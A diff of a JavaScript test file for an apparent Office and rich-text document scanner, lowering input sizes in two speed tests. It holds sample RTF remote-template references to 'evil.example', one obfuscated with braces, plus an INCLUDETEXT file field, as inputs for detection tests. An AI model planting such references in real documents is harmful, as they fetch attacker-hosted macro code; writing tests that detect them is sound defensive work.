@@ -437,7 +437,7 @@ describe('an Office document', () => {
     '<w:instrText>a</w:instrText>',
     ' ',
   ])('that repeats %j is looked at quickly', (text) => {
-    const xml = Buffer.alloc(4_000_000, text);
+    const xml = Buffer.alloc(1_000_000, text);
     expect(refusalOfXml(Buffer.concat([latin1('<document href="">'), xml]))).toBeUndefined();
   });
 
@@ -454,7 +454,7 @@ describe('an Office document', () => {
     '\\bin1',
     'INCLUDETEXT file:///',
   ])('that repeats %j in rich text is looked at quickly', (text) =>
-    expect(refusalOfRichText(rich(`{\\fldinst ${text.repeat(4_000_000 / text.length)}`))).toBeUndefined(),
+    expect(refusalOfRichText(rich(`{\\fldinst ${text.repeat(1_000_000 / text.length)}`))).toBeUndefined(),
   );
 
   test.each(['{\\*\\template http://evil.example/a.dotm}', '{\\*\\template {}h{\\b ttp}://evil.example/a.dotm}'])(
